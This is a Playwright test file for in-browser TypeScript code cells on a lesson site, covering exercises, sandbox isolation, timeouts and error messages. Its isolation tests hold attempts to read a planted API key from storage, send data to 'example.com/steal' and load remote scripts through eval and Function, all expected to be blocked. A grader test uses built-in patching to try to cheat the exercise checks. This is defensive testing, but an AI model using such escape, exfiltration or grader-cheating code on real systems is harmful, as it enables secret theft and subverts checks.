/**
 * Code cells (issue #8) on the production build: every cell in every lesson
 * runs its starter; each exercise's solution passes and its starter (a wrong
 * answer) fails; cell code cannot reach the page's storage or DOM; Monaco
 * loads only when a cell needs it; runaway code is stopped; bad input gives a
 * clear message.
 */
import { readdirSync, readFileSync } from "node:fs";
import type { Locator, Page } from "@playwright/test";
import { expect, expectAccessible, LESSON_IDS, setTheme, test } from "./fixtures";

const SHOTS = "test-results/screenshots";
const FINISHED = /^(done|passed|failed|error|stopped|timeout|solution)$/;

/** Lessons with cells, and each cell's id and whether it is an exercise (from the files beside the lesson). */
const CELLS = LESSON_IDS.flatMap((lesson) => {
  let files: string[] = [];
  try {
    files = readdirSync(`content/lessons/${lesson}/cells`);
  } catch {
    return [];
  }
  const mdx = readFileSync(`content/lessons/${lesson}/index.mdx`, "utf8");
  return files
    .filter((f) => /^[a-z0-9-]+\.ts$/.test(f))
    .map((f) => f.replace(/\.ts$/, ""))
    .filter((id) => mdx.includes(`id="${id}"`))
    .map((id) => ({ lesson, id, exercise: files.includes(`${id}.check.ts`) }));
});

async function openCell(page: Page, lesson: string, id: string): Promise<Locator> {
  await page.goto(`/lessons/${lesson}/`);
  const cell = page.locator(`code-cell#cell-${id}`);
  await cell.scrollIntoViewIfNeeded();
  await expect(cell).toHaveAttribute("data-ready", "true", { timeout: 30_000 });
  return cell;
}

async function setCode(cell: Locator, code: string): Promise<void> {
  await cell.evaluate((el, text) => {
    (el as HTMLElement & { code: string }).code = text;
  }, code);
}

async function run(cell: Locator, timeout = 60_000): Promise<string> {
  await cell.locator('[data-part="run"]').click();
  await expect(cell).toHaveAttribute("data-status", FINISHED, { timeout });
  return (await cell.getAttribute("data-status")) ?? "";
}

const output = (cell: Locator): Locator => cell.locator(".cc-output");

test.describe("code cells", () => {
  test("every lesson with an API has at least two cells", () => {
    const byLesson = new Map<string, number>();
    for (const c of CELLS) byLesson.set(c.lesson, (byLesson.get(c.lesson) ?? 0) + 1);
    for (const lesson of ["01", "02", "03", "04", "06", "07"]) {
      const id = LESSON_IDS.find((l) => l.startsWith(`${lesson}-`)) ?? lesson;
      expect(byLesson.get(id), id).toBeGreaterThanOrEqual(2);
    }
  });

  for (const { lesson, id, exercise } of CELLS) {
    test(`${lesson} ${id}: the starter runs without error${exercise ? "; the solution passes, the starter fails" : ""}`, async ({
      guardedPage: page,
    }) => {
      test.setTimeout(180_000);
      const cell = await openCell(page, lesson, id);
      const status = await run(cell, 120_000);
      expect(await cell.locator(".cc-error").allTextContents()).toEqual([]);
      if (!exercise) {
        expect(status).toBe("done");
        return;
      }
      expect(status).toBe("failed");
      await expect(cell.locator('[data-part="verdict"]')).toContainText("Not yet");
      // The learner's code first, so that "Back to my code" has something to restore.
      const mine = `${await cell.evaluate((el) => (el as HTMLElement & { code: string }).code)}\n// my attempt\n`;
      await setCode(cell, mine);
      const toggle = cell.locator('[data-part="solution"]');
      await toggle.click();
      await expect(toggle).toHaveText("Back to my code");
      const solution = await cell.evaluate((el) => (el as HTMLElement & { code: string }).code);
      // The solution passes but does not count as the learner's pass.
      expect(await run(cell, 120_000)).toBe("solution");
      await expect(cell.locator('[data-part="verdict"]')).toContainText("does not count");
      expect(await page.evaluate(() => localStorage.getItem("llmlab:exercises"))).toBeNull();
      // Back to the learner's code, unchanged, and it is what the page kept.
      await toggle.click();
      await expect(toggle).toHaveText("Show solution");
      expect(await cell.evaluate((el) => (el as HTMLElement & { code: string }).code)).toBe(mine);
      // Written by the learner (here: the solution with a change of their own), a pass counts.
      await setCode(cell, `${solution}\n// written by me\n`);
      expect(await run(cell, 120_000)).toBe("passed");
      await expect(cell.locator('[data-part="verdict"]')).toContainText("Correct");
      const passed = await page.evaluate(() => localStorage.getItem("llmlab:exercises"));
      expect(JSON.parse(passed ?? "{}")).toHaveProperty([lesson, id]);
      // The pass counts in the lesson's progress, shown beside "Mark lesson as done".
      const total = await page.locator('code-cell[data-exercise="true"]').count();
      await expect(page.locator("[data-exercise-progress]")).toHaveText(
        `Exercises passed: 1 of ${String(total)}.`,
      );
    });
  }

  test("01 analogy: king − man + woman gives queen, shown as a table", async ({
    guardedPage: page,
  }) => {
    const cell = await openCell(page, "01-word-embeddings", "analogy");
    expect(await run(cell)).toBe("done");
    const table = cell.locator('[data-part="result"] table');
    await expect(table.locator("th").first()).toHaveText("word");
    await expect(table.locator("tbody tr").first().locator("td").first()).toHaveText("queen");
    await expect(table.locator("tbody tr")).toHaveCount(5);
  });

  test("06 similar: plot() draws a line chart under the cell", async ({ guardedPage: page }) => {
    const cell = await openCell(page, "06-agent-based-models", "similar");
    expect(await run(cell)).toBe("done");
    await expect(cell.locator('[data-part="plots"] svg path[stroke-width="2"]')).toHaveCount(1);
    await expect(cell.locator('[data-part="plots"] svg')).toHaveAttribute(
      "aria-label",
      /Threshold/,
    );
  });

  test("isolation: cell code cannot read the page's localStorage, sessionStorage or DOM", async ({
    guardedPage: page,
  }) => {
    await page.goto("/lessons/07-labeling-with-llms/");
    await page.evaluate(() => {
      localStorage.setItem("llmlab:api-key", "sk-secret-local");
      sessionStorage.setItem("llmlab:api-key", "sk-secret-session");
    });
    const cell = await openCell(page, "07-labeling-with-llms", "label");
    await setCode(
      cell,
      `const g = globalThis as any;
const attempts: Record<string, string> = {};
const tries: [string, () => unknown][] = [
  ["localStorage", () => g.localStorage.getItem("llmlab:api-key")],
  ["sessionStorage", () => g.sessionStorage.getItem("llmlab:api-key")],
  ["document", () => g.document.body.innerHTML],
  ["window", () => g.window.localStorage.getItem("llmlab:api-key")],
  ["parent", () => g.parent.localStorage.getItem("llmlab:api-key")],
];
for (const [name, read] of tries) {
  try { attempts[name] = "read " + String(read()); } catch (e) { attempts[name] = "blocked: " + (e as Error).name; }
}
export default attempts;`,
    );
    expect(await run(cell)).toBe("done");
    const result = cell.locator('[data-part="result"]');
    for (const name of ["localStorage", "sessionStorage", "document", "window", "parent"])
      await expect(result).toContainText(`${name}: "blocked: TypeError"`);
    await expect(result).not.toContainText("sk-secret");

    // Used directly, as a learner would write it, each is simply not defined.
    for (const expr of [
      "localStorage.getItem('llmlab:api-key')",
      "sessionStorage.length",
      "document.title",
    ]) {
      await setCode(cell, `// @ts-nocheck\nconsole.log(${expr});`);
      expect(await run(cell)).toBe("error");
      await expect(cell.locator(".cc-error").first()).toContainText("ReferenceError");
      await expect(cell.locator(".cc-error").first()).toContainText("is not defined (line 2)");
    }
    await expect(output(cell)).not.toContainText("sk-secret");
  });

  test("isolation: no network, no storage, no messages to the page, also by the scope's prototypes; the lab library still loads its models", async ({
    guardedPage: page,
  }) => {
    const outside: string[] = [];
    page.on("request", (request) => {
      if (new URL(request.url()).hostname !== "127.0.0.1") outside.push(request.url());
    });
    const cell = await openCell(page, "07-labeling-with-llms", "label");
    await setCode(
      cell,
      `// @ts-nocheck
const attempts = {};
const SPOOF = { type: "result", id: 1, display: { kind: "text", text: "SPOOFED RESULT" } };
// The worker scope, reached in every way a cell could: the names, the prototypes, Function.
const scopes = {
  self: () => self,
  "constructor.prototype": () => self.constructor.prototype,
  // Computed: a plain "__proto__": key would set the object's prototype, not add a way in.
  ["__proto__"]: () => globalThis.__proto__,
  "__proto__.__proto__": () => globalThis.__proto__.__proto__,
  'Function("return this")': () => Function("return this")(),
};
const uses = {
  fetch: (g) => g.fetch.call(self, "https://example.com/steal?k=1"),
  WebSocket: (g) => new g.WebSocket("wss://example.com"),
  EventSource: (g) => new g.EventSource("https://example.com"),
  XMLHttpRequest: (g) => { const x = new g.XMLHttpRequest(); x.open("GET", "https://example.com"); x.send(); },
  importScripts: (g) => g.importScripts.call(self, "https://example.com/x.js"),
  indexedDB: (g) => Object.getOwnPropertyDescriptor(g, "indexedDB")?.get?.call(self).open("x") ?? g.indexedDB.open("x"),
  caches: (g) => (Object.getOwnPropertyDescriptor(g, "caches")?.get?.call(self) ?? g.caches).open("x"),
  Worker: (g) => new g.Worker("/x.js"),
  BroadcastChannel: (g) => new g.BroadcastChannel("x").postMessage("hi"),
  FontFace: (g) => new g.FontFace("x", "url(https://example.com/f.woff)").load(),
  postMessage: (g) => g.postMessage.call(self, SPOOF),
  onmessage: (g) => Object.getOwnPropertyDescriptor(g, "onmessage").set.call(self, () => {}),
};
for (const [scope, get] of Object.entries(scopes))
  for (const [name, use] of Object.entries(uses)) {
    try { await use(get()); attempts[name + " via " + scope] = "allowed"; } catch { attempts[name + " via " + scope] = "blocked"; }
  }
const more = [
  ["fetch another origin", () => fetch("https://example.com/steal?k=1")],
  ["listen", () => addEventListener("message", () => {})],
  ["EventTarget listen", () => EventTarget.prototype.addEventListener.call(self, "message", () => {})],
  ["navigator.storage", () => navigator.storage.getDirectory()],
  // A literal specifier is refused before the cell runs ("Cannot find module"), so build it.
  ["import()", () => import(["https://example.com", "x.js"].join("/"))],
  ["import() in Function", () => Function('return import("https://example.com/x.js")')()],
  ["import() in AsyncFunction", () => (async () => {}).constructor('return await import("https://example.com/x.js")')()],
  ["import() in eval", () => (0, eval)('import("https://example.com/x.js")')],
  ["import() in a string timer", () => new Promise((ok, no) => { try { setTimeout('import("https://example.com/x.js")', 0); setTimeout(ok, 50); } catch (e) { no(e); } })],
];
for (const [name, attempt] of more) {
  try { await attempt(); attempts[name] = "allowed"; } catch { attempts[name] = "blocked"; }
}
// The site's own files still load (the lab library reads them), and code from strings still runs.
const names = Object.keys(attempts);
console.log("allowed: " + (names.filter((n) => attempts[n] === "allowed").join(", ") || "none"));
export default {
  blocked: names.filter((n) => attempts[n] === "blocked").length,
  sameOrigin: (await fetch("/favicon.svg")).ok ? "works" : "fails",
  Function: Function("a", "return a * 2")(21) === 42 ? "works" : "fails",
};
`,
    );
    expect(await run(cell)).toBe("done");
    const result = cell.locator('[data-part="result"]');
    await expect(cell.locator(".cc-console")).toHaveText("allowed: none");
    await expect(result).not.toContainText("SPOOFED");
    // 12 uses × 5 ways to the scope, and 9 more, each refused.
    await expect(result).toContainText("blocked: 69");
    await expect(result).toContainText('sameOrigin: "works"');
    await expect(result).toContainText('Function: "works"');
    expect(outside).toEqual([]);
  });

  test("exercise checks run where the cell cannot reach: patched built-ins and hard-coded answers fail, the real code passes", async ({
    guardedPage: page,
  }) => {
    test.setTimeout(120_000);
    const cell = await openCell(page, "07-labeling-with-llms", "kappa");
    const starter = await cell.evaluate((el) => (el as HTMLElement & { code: string }).code);
    const solution = readFileSync(
      "content/lessons/07-labeling-with-llms/cells/kappa.solution.ts",
      "utf8",
    );
    const verdict = cell.locator('[data-part="verdict"]');
    const cheats: [string, string][] = [
      // In one realm with the checks, this made every "close enough" comparison true.
      ["Math.abs", `${starter}\nMath.abs = () => 0;\n`],
      // … and this made runChecks record no failures.
      ["Array.prototype.push", `${starter}\nArray.prototype.push = function () { return 0; };\n`],
      // A reference computed with reduce would then agree with the starter's p_e = 0.
      [
        "Array.prototype.reduce and Number.prototype.toFixed",
        `${starter}\n(Array.prototype as any).reduce = () => 0;\n(Number.prototype as any).toFixed = () => "0.5455";\n`,
      ],
      [
        "hard-coded answers",
        `export const accuracy = 0.8;\nexport const kappa = 6 / 11;\nexport function agreement(gold: string[], model: string[]) {\n  return { accuracy: 0.8, kappa: 6 / 11 };\n}\n`,
      ],
    ];
    for (const [name, code] of cheats) {
      await setCode(cell, code);
      expect(await run(cell), name).toBe("failed");
      await expect(verdict, name).toContainText("Not yet");
    }
    await expect(verdict).toContainText("agreement(gold, model)");
    expect(await page.evaluate(() => localStorage.getItem("llmlab:exercises"))).toBeNull();
    // Patches change only the cell's own realm: the real code fails only where it uses
    // what it broke (reduce), and the learner is told the next run starts afresh.
    await setCode(
      cell,
      `${solution}\nMath.abs = () => 0;\n(Array.prototype as any).reduce = () => 0;\n`,
    );
    expect(await run(cell)).toBe("failed");
    await expect(cell.locator(".cc-console")).toContainText(
      "replaced Array.prototype.reduce and Math.abs",
    );
    await expect(cell.locator(".cc-console")).toContainText(
      "The next run starts in a fresh sandbox",
    );
    // … and the next run does not inherit the broken reduce.
    await setCode(cell, `${solution}\nMath.abs = () => 0;\n// mine\n`);
    expect(await run(cell)).toBe("passed");
    await expect(verdict).toContainText("Correct: all 3 checks pass");
  });

  test("Monaco is not downloaded until a cell nears the viewport", async ({
    guardedPage: page,
  }) => {
    const requests: string[] = [];
    page.on("request", (r) => requests.push(r.url()));
    await page.goto("/lessons/01-word-embeddings/");
    await page.waitForLoadState("networkidle");
    // Monaco: its editor bundle, stylesheet, language chunks and workers.
    const monaco = (url: string): boolean =>
      /\/_astro\/(editor[-.]|editor\.main|tsMode|ts\.worker|editor\.worker|code-cell)/.test(url);
    expect(requests.filter(monaco)).toEqual([]);
    await expect(page.locator("code-cell#cell-analogy pre code")).toContainText("loadWords");
    const cell = page.locator("code-cell#cell-analogy");
    await cell.scrollIntoViewIfNeeded();
    await expect(cell).toHaveAttribute("data-ready", "true", { timeout: 30_000 });
    const loaded = requests.filter(monaco).map((u) => new URL(u).pathname);
    expect(
      loaded.some((u) => /\/editor[-.][\w-]+\.js$/.test(u)),
      loaded.join(", "),
    ).toBe(true);
    expect(
      loaded.some((u) => u.includes("editor.main") && u.endsWith(".css")),
      loaded.join(", "),
    ).toBe(true);
    expect(
      loaded.some((u) => u.includes("ts.worker")),
      loaded.join(", "),
    ).toBe(true);
  });

  test("an endless loop is ended by Stop and by the time limit; the next run works", async ({
    guardedPage: page,
  }) => {
    const cell = await openCell(page, "07-labeling-with-llms", "label");
    await setCode(cell, "while (true) {}\n");
    await cell.locator('[data-part="run"]').click();
    await expect(cell).toHaveAttribute("data-status", "running");
    await page.waitForTimeout(500);
    await cell.locator('[data-part="stop"]').click();
    await expect(cell).toHaveAttribute("data-status", "stopped");

    await cell.evaluate((el) => {
      (el as HTMLElement).dataset["timeLimit"] = "1500";
    });
    const started = Date.now();
    expect(await run(cell, 10_000)).toBe("timeout");
    expect(Date.now() - started).toBeGreaterThanOrEqual(1400);
    await expect(cell.locator('[data-part="status"]')).toContainText("time limit");

    await setCode(cell, 'console.log("alive");\n');
    expect(await run(cell)).toBe("done");
    await expect(cell.locator(".cc-console")).toHaveText("alive");
  });

  test("a syntax error is marked at its line and nothing runs", async ({ guardedPage: page }) => {
    const cell = await openCell(page, "07-labeling-with-llms", "kappa");
    await setCode(cell, 'console.log("before");\nconst x = ;\nconsole.log(x);\n');
    expect(await run(cell)).toBe("error");
    await expect(cell.locator(".cc-error")).toContainText("Syntax error on line 2");
    await expect(cell.locator(".cc-console")).not.toContainText("before");
    const markers = await cell.evaluate((el) =>
      (el as HTMLElement & { markers(): { line: number; owner: string }[] }).markers(),
    );
    expect(markers.some((m) => m.line === 2 && m.owner === "code-cell-run")).toBe(true);
  });

  test("a thrown error points at its line in the editor", async ({ guardedPage: page }) => {
    const cell = await openCell(page, "07-labeling-with-llms", "kappa");
    await setCode(
      cell,
      'interface A { n: number }\nconst a: A = { n: 1 };\n\nif (a.n === 1) throw new Error("bad n");\n',
    );
    expect(await run(cell)).toBe("error");
    await expect(cell.locator(".cc-error")).toHaveText("Error: bad n (line 4)");
    const markers = await cell.evaluate((el) =>
      (el as HTMLElement & { markers(): { line: number; owner: string }[] }).markers(),
    );
    expect(markers.filter((m) => m.owner === "code-cell-run").map((m) => m.line)).toEqual([4]);
  });

  test("bad input: unhandled rejection, unknown module, 10 MB of console output", async ({
    guardedPage: page,
  }) => {
    const cell = await openCell(page, "07-labeling-with-llms", "label");
    await setCode(
      cell,
      'void Promise.reject(new Error("nobody caught me"));\nawait new Promise((r) => setTimeout(r, 50));\n',
    );
    await cell.locator('[data-part="run"]').click();
    await expect(cell.locator(".cc-error")).toContainText("nobody caught me");
    await expect(cell.locator(".cc-error")).toContainText("unhandled promise rejection");

    await setCode(cell, '// @ts-nocheck\nimport { chunk } from "lodash";\nconsole.log(chunk);\n');
    expect(await run(cell)).toBe("error");
    await expect(cell.locator(".cc-error")).toContainText(
      'Cannot find module "lodash". Cells can import only from "lab"',
    );

    await setCode(
      cell,
      'const line = "x".repeat(99);\nfor (let i = 0; i < 100_000; i++) console.log(line);\nexport default "finished";\n',
    );
    expect(await run(cell)).toBe("done");
    await expect(cell.locator(".cc-notice")).toContainText("Output truncated");
    await expect(cell.locator(".cc-notice")).toContainText("9.8 MB more were not shown");
    const shown = await cell.locator(".cc-console").evaluate((el) => el.textContent.length);
    expect(shown).toBeLessThan(300_000);
    await expect(cell.locator('[data-part="result"]')).toHaveText("finished");
  });

  test("edits persist per cell across reloads; Reset brings back the original", async ({
    guardedPage: page,
  }) => {
    let cell = await openCell(page, "07-labeling-with-llms", "kappa");
    const original = await cell.evaluate((el) => (el as HTMLElement & { code: string }).code);
    await setCode(cell, "// my edit\nconsole.log(1);\n");
    await page.waitForTimeout(600);
    await page.reload();
    cell = page.locator("code-cell#cell-kappa");
    await cell.scrollIntoViewIfNeeded();
    await expect(cell).toHaveAttribute("data-ready", "true", { timeout: 30_000 });
    expect(await cell.evaluate((el) => (el as HTMLElement & { code: string }).code)).toBe(
      "// my edit\nconsole.log(1);\n",
    );
    expect(
      await page.evaluate(() => localStorage.getItem("llmlab:cell:07-labeling-with-llms/kappa")),
    ).toContain("my edit");
    await cell.locator('[data-part="reset"]').click();
    expect(await cell.evaluate((el) => (el as HTMLElement & { code: string }).code)).toBe(original);
    await page.waitForTimeout(600);
    expect(
      await page.evaluate(() => localStorage.getItem("llmlab:cell:07-labeling-with-llms/kappa")),
    ).toBeNull();
  });

  test("Ctrl+Enter runs the cell from the editor", async ({ guardedPage: page }) => {
    const cell = await openCell(page, "07-labeling-with-llms", "kappa");
    await cell.locator(".monaco-editor .view-lines").click();
    await page.keyboard.press("Control+Enter");
    await expect(cell).toHaveAttribute("data-status", "failed", { timeout: 30_000 });
  });

  test("screenshots of a cell, light, dark and 375 px; axe-clean", async ({
    guardedPage: page,
  }) => {
    const cell = await openCell(page, "01-word-embeddings", "analogy");
    expect(await run(cell)).toBe("done");
    for (const theme of ["light", "dark"] as const) {
      await setTheme(page, theme);
      await page.waitForTimeout(200);
      await cell.screenshot({ path: `${SHOTS}/code-cell-${theme}.png` });
      await expectAccessible(page, `lesson 01 with a run cell (${theme})`);
    }
    await page.setViewportSize({ width: 375, height: 800 });
    await page.waitForTimeout(300);
    await cell.screenshot({ path: `${SHOTS}/code-cell-375.png` });
    const exercise = await openCell(page, "07-labeling-with-llms", "kappa");
    await page.setViewportSize({ width: 1280, height: 800 });
    expect(await run(exercise)).toBe("failed");
    await exercise.screenshot({ path: `${SHOTS}/code-cell-exercise-light.png` });
  });
});
